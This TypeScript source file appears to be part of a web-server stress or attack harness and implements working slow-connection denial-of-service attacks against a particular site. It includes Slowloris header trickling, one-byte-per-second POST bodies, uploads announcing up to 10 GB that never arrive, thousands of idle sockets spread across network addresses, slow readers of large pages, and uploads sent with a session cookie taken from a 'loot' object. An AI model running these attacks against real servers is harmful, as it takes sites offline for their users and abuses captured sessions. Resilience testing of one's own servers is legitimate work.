import type { Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { openSocket, type Attack, type Stage } from './stage';

const TRICKLE_MS = 1_000;

interface Trickle {
  readonly connections: number;
  /** Connections per network address. */
  readonly each: number;
  /** Sent immediately on each connection. */
  readonly first: (number: number, stage: Stage) => string;
  /** Sent every second afterwards. */
  readonly then: string;
}

/** Replaces connections that the server closes. */
function trickle({ connections, each, first, then }: Trickle): Attack {
  return async (stage) => {
    const sockets = new Map<number, Socket>();
    const begin = (number: number) => {
      const socket = openSocket(stage, Math.floor(number / each));
      sockets.set(number, socket);
      socket.once('data', (answer: Buffer) => stage.tally.add(getStatus(answer)));
      socket.once('close', () => {
        stage.tally.add('cut off');
        sockets.delete(number);
      });
      socket.write(first(number, stage));
    };
    while (stage.isOn()) {
      for (let number = 0; number < connections; number += 1) {
        const socket = sockets.get(number);
        if (socket) socket.write(then);
        else begin(number);
      }
      await wait(TRICKLE_MS);
    }
    stage.tally.add(`${sockets.size} open at the end`);
  };
}

/** Slowloris: endless headers, one byte per second. */
export const slowHeaders = trickle({
  connections: 1_000,
  each: 100,
  first: () => 'GET / HTTP/1.1\r\nHost: site\r\nX-Slow: ',
  then: 'x',
});

/** Sends bodies at one byte per second. */
export const slowBodies = trickle({
  connections: 1_000,
  each: 100,
  first: (_number, { origin }) => buildPostHead(origin, '/signup', 20_000),
  then: 'x',
});

const BIG_FORMS = ['/document', '/blogupload', '/profile'];

/** Strangers announce 15 MB and send one kilobyte per second. */
export const slowUploads = trickle({
  connections: 500,
  each: 50,
  first: (number, { origin }) =>
    buildPostHead(origin, BIG_FORMS[number % BIG_FORMS.length] ?? '/', 15_000_000),
  then: 'x'.repeat(1_024),
});

/** The same uploads by an applicant, who is allowed to upload that size. */
export const slowApplicantUploads = trickle({
  connections: 500,
  each: 50,
  first: (_number, { origin, loot }) =>
    buildPostHead(origin, '/document', 15_000_000, `Cookie: ${loot.applicant}\r\n`),
  then: 'x'.repeat(1_024),
});

/** Bodies that are announced but never sent: 200 KB, 30 MB and 10 GB. */
export const promisedBodies = trickle({
  connections: 900,
  each: 90,
  first: (number, { origin }) =>
    buildPostHead(origin, '/blogupload', [200_000, 30_000_000, 10_000_000_000][number % 3] ?? 0),
  then: '',
});

export const idle = trickle({ connections: 5_000, each: 200, first: () => '', then: '' });

/** Requests one page per connection, then idles. */
export const idleAfterPage = trickle({
  connections: 5_000,
  each: 200,
  first: () => 'GET /robots.txt HTTP/1.1\r\nHost: site\r\n\r\n',
  then: '',
});

const LARGE = ['/', '/sitemap.xml', '/blogs', '/call-with-astrologer', '/fonts.css', '/signup'];

/** Requests large responses and reads one byte per second. */
export const slowReaders: Attack = async (stage) => {
  const sockets: Socket[] = [];
  for (let number = 0; number < 500; number += 1) {
    const socket = openSocket(stage, Math.floor(number / 50));
    socket.pause();
    socket.once('close', () => stage.tally.add('cut off'));
    sockets.push(socket);
  }
  for (let round = 0; stage.isOn(); round += 1) {
    for (const [number, socket] of sockets.entries()) {
      if (socket.destroyed) continue;
      socket.write(
        `GET ${LARGE[(number + round) % LARGE.length] ?? '/'} HTTP/1.1\r\nHost: site\r\n\r\n`,
      );
      socket.read(1);
    }
    await wait(TRICKLE_MS);
  }
  stage.tally.add(`${sockets.filter(({ destroyed }) => !destroyed).length} open at the end`);
};

function buildPostHead(origin: string, path: string, bytes: number, more = ''): string {
  return (
    `POST ${path} HTTP/1.1\r\nHost: ${new URL(origin).host}\r\nOrigin: ${origin}\r\n` +
    `Content-Type: multipart/form-data; boundary=x\r\nContent-Length: ${bytes}\r\n${more}\r\n`
  );
}

export function getStatus(answer: Buffer): string {
  return /^HTTP\/1\.1 (\d{3})/.exec(answer.subarray(0, 16).toString('latin1'))?.[1] ?? 'no HTTP';
}
